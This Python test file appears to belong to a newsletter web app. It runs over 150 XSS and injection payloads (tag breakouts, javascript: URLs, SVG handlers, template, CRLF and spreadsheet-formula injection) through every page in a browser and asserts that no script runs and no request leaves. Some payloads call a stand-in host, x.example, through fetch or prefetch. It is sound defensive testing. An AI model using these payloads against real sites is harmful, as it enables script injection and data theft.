"""A source that attacks: over 150 carriers of scripts as titles, words, names, places and links, through every page that
shows them, in Chromium with scripts on. None runs, and no request leaves.
"""

from datetime import timedelta
from typing import Any

from digest.model import Entry, IssueState, ItemId, ItemKind, Language, Occasion
from tests import browser_kit, web_kit
from tests.test_text import SCRIPTS

# What breaks out of an attribute, a title, a comment, a template, a JSON island, a Markdown link or a URL.
OTHERS = (
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", '" autofocus onfocus=alert(1) x="',
    "` onmouseover=alert(1) `", "--><script>alert(1)</script><!--", "]]><script>alert(1)</script>", "{{ 7*7 }}",
    "{% for x in ().__class__.__bases__ %}{% endfor %}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "[[alert(1)]]",
    "[x](javascript:alert(1))", "![x](x onerror=alert(1))", "<javascript:alert(1)>", "javascript:alert(1)",
    "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)", "//x.example/a.js", "https://x.example/\"onerror=alert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<script\x00>alert(1)</script>", "<scr\u200bipt>alert(1)</scr\u200bipt>", "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><set attributeName=onmouseover to=alert(1)>", "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>#x'/>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>", "<math href='javascript:alert(1)'>x</math>",
    "<input onfocus=alert(1) autofocus>", "<img src=x onerror='fetch(`https://x.example/`)'>",
    "<img srcset='https://x.example/a.png 2x'>", "<link rel=prefetch href='https://x.example/'>",
    "<link rel=dns-prefetch href='https://x.example/'>", "<script type=module>import 'https://x.example/a.js'</script>",
    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://x.example/\"]}]}</script>",
    "<a href='https://x.example' download>x</a>", "<div hx-get='https://x.example/' hx-trigger=load>x</div>",
    "<div hx-on::load='alert(1)'>x</div>", "<div data-hx-get='/desk/' data-hx-trigger=load>x</div>",
    "<form id=token><input name=value></form>", "<a id=phrases data-saving=x>x</a>",
    "<template shadowrootmode=open><script>alert(1)</script>",
    "<object data='javascript:alert(1)'>", "<embed src='javascript:alert(1)'>", "<iframe src='javascript:alert(1)'></iframe>",
    "<frameset onload=alert(1)>", "<body onpageshow=alert(1)>", "<x contenteditable onblur=alert(1)>y</x>",
    "<x onclick=alert(1) style='position:fixed;inset:0'>y</x>", "<style>*{background:url('https://x.example/')}</style>",
    "<p style='behavior:url(x.htc)'>x</p>", "<div style='width:expression(alert(1))'>x</div>",
    "<meta http-equiv=Set-Cookie content='desk=x'>", "<meta name=referrer content=unsafe-url>",
    "<track default src='https://x.example/a.vtt'>", "<video poster='https://x.example/p.png'></video>",
    "<audio src='https://x.example/a.mp3' autoplay></audio>", "<source src='https://x.example/a.mp4'>",
    "<bgsound src='https://x.example/a.wav'>", "<image src=x onerror=alert(1)>", "<image href='https://x.example/i.png'>",
    "<area href='javascript:alert(1)' shape=default>", "<map><area ping='https://x.example'></map>",
    "<details ontoggle=alert(1) open><summary>x</summary></details>", "<video onloadstart=alert(1)><source>",
    "<style onload=alert(1)></style>", "<link rel=stylesheet href=data:text/css,*{} onload=alert(1)>",
    "<img loading=lazy src='https://x.example/l.png'>", "<picture><source srcset='https://x.example/s.png'><img></picture>",
    "<input type=image src='https://x.example/i.png'>", "<button type=submit formaction='https://x.example'>x</button>",
    "<a target=_blank rel=opener href='https://x.example'>x</a>", "<base target=_parent>", "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<noembed><script>alert(1)</script></noembed>", "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
    "=HYPERLINK(\"https://x.example\")", "@SUM(1+1)*cmd|' /C calc'!A0", "\r\nX-Injected: 1\r\n\r\n<script>alert(1)</script>",
    "{\"__proto__\":{\"x\":1}}", "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<a href='\x0bjavascript:alert(1)'>x</a>",
)  # fmt: skip
CARRIERS = (*SCRIPTS, *OTHERS)


def entries(now: Any) -> list[Entry]:
    """Every carrier as the title, the words, the author and the link of a post or an event; as a place and a link to join."""
    found = []
    for number, carrier in enumerate(CARRIERS):
        common = {
            "keys": (f"link:{number}",), "title": carrier, "summary": f"{carrier} number {number}", "author": carrier,
            "url": carrier if number % 3 == 0 else f"https://blog.example/{number}", "language": "en", "html": carrier,
            "tags": (carrier,), "content_hash": str(number), "flags": (carrier[:20],),
        }  # fmt: skip
        if number % 2:
            starts = now + timedelta(days=14, minutes=number)
            occasion = Occasion(
                starts=starts,
                ends=starts + timedelta(hours=1),
                place=carrier,
                online=carrier,
                uid=str(number),
            )
            found.append(Entry(kind=ItemKind.EVENT, occasion=occasion, **common))  # type: ignore[arg-type]
        else:
            found.append(Entry(kind=ItemKind.POST, published=now - timedelta(hours=number), **common))  # type: ignore[arg-type]
    return found


def test_more_than_a_hundred_and_fifty_carriers_are_tried() -> None:
    assert len(set(CARRIERS)) == len(CARRIERS) >= 150


def test_no_script_of_a_source_runs_anywhere_and_no_request_leaves(
    site: browser_kit.Served, browser: Any
) -> None:
    app, now = site.app, site.app.clock()
    month = web_kit.fill(app)
    sources = [source.id for source in app.store.sources.all()]
    with app.store.write():
        items = [
            app.store.items.add(one, source=sources[n % 4], now=now) for n, one in enumerate(entries(now))
        ]
    app.publish.assemble(month.period)
    for item in items:
        app.publish.add(month.period, ItemId(item), by="test")
    app.publish.write(month.period, field="note", language=Language.EN, words=CARRIERS[0], by="test")
    app.publish.cut(month.period, items[0], by="test")

    context = browser.new_context(viewport=browser_kit.DESKTOP)
    context.set_default_timeout(60_000)
    page = context.new_page()
    trouble: list[str] = []
    page.on("dialog", lambda dialog: (trouble.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on("console", lambda said: trouble.append(f"console {said.text}") if said.type == "error" else None)
    page.on("pageerror", lambda error: trouble.append(f"fault {error}"))
    context.on(
        "request",
        lambda asked: (
            None if asked.url.startswith((site.url, "data:", "about:")) else trouble.append(asked.url)
        ),
    )
    with page.expect_navigation():
        page.goto(web_kit.sign_in_link(app))
    with page.expect_navigation():
        page.locator("main button").first.click()
    base = f"/desk/issues/{month.period}"
    for path in (f"{base}/?view=600", f"{base}/?view=375&letter=fr"):
        page.goto(site.url + path)
        page.frame_locator(".letter iframe").locator("h1").first.wait_for()
    shown = ["/desk/", "/desk/pool?shown=all", "/desk/pool?shown=all&tab=events", f"{base}/?view=text", f"{base}/history",
             f"{base}/checks", f"{base}/approve", f"{base}/note", f"/fr{base}/"]  # fmt: skip
    for path in [*shown, *(f"{base}/items/{item}" for item in items)]:
        page.goto(site.url + path, wait_until="load")
    # Blocking checks are rightly many here; what is looked at is what would be published all the same.
    frozen = {language: app.publish.preview(month.period, language) for language in Language}
    with app.store.write():
        issue = app.store.issues.get(month.period)
        app.store.issues.freeze(issue.id, list(frozen.values()))
        for state in ("approved", "sending", "sent"):
            app.store.issues.move(
                issue.id, from_=set(IssueState), to=IssueState(state), sent_at=now, approved_at=now, hash="h"
            )
    public = [
        "/",
        "/issues/",
        f"/issues/{month.period}",
        f"/fr/issues/{month.period}",
        f"{base}/letter/en",
        f"{base}/letter/fr",
    ]
    for path in [*public, *(f"/items/{item}" for item in items[1:])]:
        page.goto(site.url + path, wait_until="load")
    assert "{{ 7*7 }}" in page.goto(f"{site.url}/issues/{month.period}").text()
    browser_kit.close(context)
    assert trouble == []
